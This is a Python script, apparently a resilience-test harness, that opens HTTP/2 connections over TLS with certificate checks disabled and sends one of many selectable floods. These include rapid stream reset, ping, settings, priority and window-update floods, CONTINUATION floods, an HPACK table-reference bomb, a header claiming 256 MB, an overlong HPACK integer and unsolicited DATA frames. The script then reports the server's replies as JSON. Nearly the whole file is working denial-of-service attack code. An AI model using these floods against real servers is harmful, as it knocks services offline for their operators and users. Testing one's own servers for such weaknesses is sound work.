"""A client of HTTP/2 over TLS that floods a server, on Debian's python3-h2, python3-hyperframe and python3-hpack.

Its only output is a line of JSON: what was sent, what came back by kind of frame, how the connection ended.
"""

import argparse
import json
import select
import socket
import ssl
import time
from collections import Counter

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8
LAST = b"the last"


class Connection:
    """TLS over a socket that never blocks, so that one thread can send as fast as the server takes it and see what comes back."""

    def __init__(self, options):
        self.socket = socket.socket()
        if options.unread:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.bind((options.source, 0))
        self.socket.connect((options.host, options.port))
        self.socket.setblocking(False)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2", "http/1.1"])
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing)
        self.unsent = b""
        self.received = b""
        self.is_closed = False
        while not self._try(self.tls.do_handshake):
            if self.is_closed:
                raise ConnectionError("closed during the handshake")
            self.turn(1)

    @property
    def protocol(self):
        return self.tls.selected_alpn_protocol()

    def send(self, octets):
        if octets:
            self.tls.write(octets)

    def turn(self, seconds, reads=True):
        """Waits until something can be sent or read, and does it. True if something moved."""
        self.unsent += self.outgoing.read()
        readable, writable, _ = select.select([self.socket] if reads else [], [self.socket] if self.unsent else [], [], seconds)
        try:
            if writable:
                self.unsent = self.unsent[self.socket.send(self.unsent):]
            if readable:
                octets = self.socket.recv(1 << 18)
                self.is_closed |= not octets
                self.incoming.write(octets) if octets else self.incoming.write_eof()
                self._try(self._read)
        except OSError:
            self.is_closed = True
        return bool(readable or writable)

    def _read(self):
        while octets := self.tls.read(1 << 16):
            self.received += octets
        self.is_closed = True

    @staticmethod
    def _try(action):
        try:
            action()
            return True
        except (ssl.SSLWantReadError, ssl.SSLEOFError, ssl.SSLZeroReturnError):
            return False


class Flood:
    """Sends frames one after the other, and counts what comes back."""

    def __init__(self, options):
        self.options = options
        self.connection = Connection(options)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.encoder.huffman = False
        self.sent, self.octets = 0, 0
        self.frames, self.statuses, self.resets, self.settings = Counter(), Counter(), Counter(), {}
        self.goaway, self.granted, self.blocked, self.is_over = None, 0, False, False

    def run(self):
        settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if self.options.kind == "unread-bodies" else {}
        self.connection.send(PREFACE + SettingsFrame(0, settings=settings).serialize())
        piece = b""
        for octets in getattr(self, self.options.kind.replace("-", "_"))():
            piece += octets
            self.sent += 1
            if len(piece) < self.options.batch:
                continue
            if not self.push(piece):
                break
            piece = b""
        if not self.blocked and not self.connection.is_closed:
            self.push(piece)
            self.push(PingFrame(0, opaque_data=LAST).serialize())
            self.settle()

    def push(self, octets):
        """False when the server has closed, or takes no more."""
        self.octets += len(octets)
        self.connection.send(octets)
        last_move = time.monotonic()
        self.turn(0)
        while len(self.connection.unsent) > 1 << 17 and not self.connection.is_closed:
            if self.turn(0.2):
                last_move = time.monotonic()
            elif time.monotonic() - last_move > 3:
                self.blocked = True
                break
        return not self.connection.is_closed and not self.blocked

    def settle(self):
        """Until the server has closed, or has answered the last ping and, if wanted, everything else."""
        end = time.monotonic() + self.options.seconds
        while not self.connection.is_closed and time.monotonic() < end and not (self.is_over and not self.options.until_closed):
            self.turn(0.2)

    def turn(self, seconds):
        moved = self.connection.turn(seconds, reads=not self.options.unread)
        received, at = memoryview(self.connection.received), 0
        while len(received) - at >= 9:
            frame, length = Frame.parse_frame_header(received[at:at + 9])
            if len(received) - at < 9 + length:
                break
            frame.parse_body(received[at + 9:at + 9 + length])
            at += 9 + length
            self.count(frame)
        self.connection.received = bytes(received[at:])
        return moved

    def count(self, frame):
        self.frames[type(frame).__name__.removesuffix("Frame")] += 1
        if isinstance(frame, HeadersFrame):
            self.statuses[dict(self.decoder.decode(frame.data)).get(":status", "trailers")] += 1
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.error_code] += 1
        elif isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, SettingsFrame):
            self.settings.update(frame.settings)
        elif isinstance(frame, WindowUpdateFrame) and frame.stream_id == 0:
            self.granted += frame.window_increment
        elif isinstance(frame, PingFrame) and frame.opaque_data == LAST:
            self.is_over = True

    def request(self, stream, method="GET", ends=True):
        block = self.encoder.encode([(":method", method), (":scheme", "https"), (":authority", "x"), (":path", self.options.path)])
        return HeadersFrame(stream, data=block, flags=["END_HEADERS"] + (["END_STREAM"] if ends else [])).serialize()

    def streams(self):
        return range(1, 2 * self.options.count, 2)

    # The floods, by their names on the command line.

    def reset(self):
        for stream in self.streams():
            yield self.request(stream) + RstStreamFrame(stream, error_code=CANCEL).serialize()

    def unread_bodies(self):
        for stream in self.streams():
            yield self.request(stream)

    def ping(self):
        for number in range(self.options.count):
            yield PingFrame(0, opaque_data=number.to_bytes(8, "big")).serialize()

    def settings_flood(self):
        for number in range(self.options.count):
            yield SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: number % 2 * 4096}).serialize()

    def priority(self):
        for stream in self.streams():
            yield PriorityFrame(stream, depends_on=0, stream_weight=1).serialize()

    def window(self):
        for _ in range(self.options.count):
            yield WindowUpdateFrame(0, window_increment=(1 << 31) - 1).serialize()

    def continuation(self):
        block = self.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/")])
        yield HeadersFrame(1, data=block).serialize()
        for number in range(self.options.count):
            yield ContinuationFrame(1, data=literal(b"x-%d" % number, b"a" * 1000)).serialize()

    def empty_continuation(self):
        yield HeadersFrame(1, data=self.encoder.encode([(":method", "GET")])).serialize()
        for _ in range(self.options.count):
            self.turn(0.02)  # the server's patience is to end it, not ours
            yield ContinuationFrame(1).serialize()

    def bomb(self):
        """A header of 4,000 octets goes into the table of the connection, and is meant again by each octet that follows."""
        block = self.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/")])
        stored = b"\x40\x01x" + integer(4000, 7) + b"a" * 4000
        yield HeadersFrame(1, data=block + stored + b"\xbe" * 10000, flags=["END_HEADERS", "END_STREAM"]).serialize()

    def long_string(self):
        """A header that says it has 256 MB."""
        block = self.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/")])
        yield HeadersFrame(1, data=block + b"\x00\x01x" + integer(1 << 28, 7)).serialize()
        for _ in range(self.options.count):
            yield ContinuationFrame(1, data=b"a" * 16000).serialize()

    def long_integer(self):
        yield HeadersFrame(1, data=b"\x00\x7f" + b"\xff" * 16000, flags=["END_HEADERS", "END_STREAM"]).serialize()

    def data(self):
        """Bodies that nobody asked for, whatever the windows allow."""
        yield self.request(1, ends=False)
        for _ in range(self.options.count):
            yield DataFrame(1, data=b"a" * 16000).serialize()

    def garbage(self):
        for _ in range(self.options.count):
            yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"

    def outcome(self):
        return {
            "protocol": self.connection.protocol, "sent": self.sent, "octets": self.octets, "closed": self.connection.is_closed, "blocked": self.blocked, "goaway": self.goaway,
            "frames": self.frames, "statuses": self.statuses, "resets": self.resets, "settings": self.settings, "granted": self.granted}


def integer(value, prefix):
    """RFC 7541 section 5.1, with nothing else in the first octet."""
    most = (1 << prefix) - 1
    octets = bytearray([most])
    value -= most
    while value >= 128:
        octets.append(value % 128 | 128)
        value //= 128
    return bytes(octets) + bytes([value])


def literal(name, value):
    """A header that is not kept in the table (RFC 7541 section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + integer(len(value), 7) + value


def get(options):
    """One request by the rules, which the h2 library watches over on our side."""
    connection = Connection(options)
    http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    http.initiate_connection()
    http.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", options.path)], end_stream=True)
    status, length, end = None, 0, time.monotonic() + options.seconds
    while time.monotonic() < end and not connection.is_closed:
        connection.send(http.data_to_send())
        connection.turn(0.2)
        received, connection.received = connection.received, b""
        for event in http.receive_data(received) if received else []:
            if isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers)[b":status"].decode()
            elif isinstance(event, h2.events.DataReceived):
                length += len(event.data)
                http.acknowledge_received_data(event.flow_controlled_length, 1)
            elif isinstance(event, h2.events.StreamEnded):
                return {"protocol": connection.protocol, "statuses": {status: 1}, "octets": length}
    return {"protocol": connection.protocol, "closed": connection.is_closed}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("kind")
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--path", default="/metrics")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--batch", type=int, default=1, help="octets that are sent at once")
    parser.add_argument("--seconds", type=float, default=40, help="patience after the last frame")
    parser.add_argument("--unread", action="store_true", help="read nothing")
    parser.add_argument("--until-closed", action="store_true", help="wait until the server closes")
    options = parser.parse_args()
    if options.kind == "get":
        print(json.dumps(get(options)), flush=True)
        return
    flood = Flood(options)
    flood.run()
    print(json.dumps(flood.outcome()), flush=True)


main()
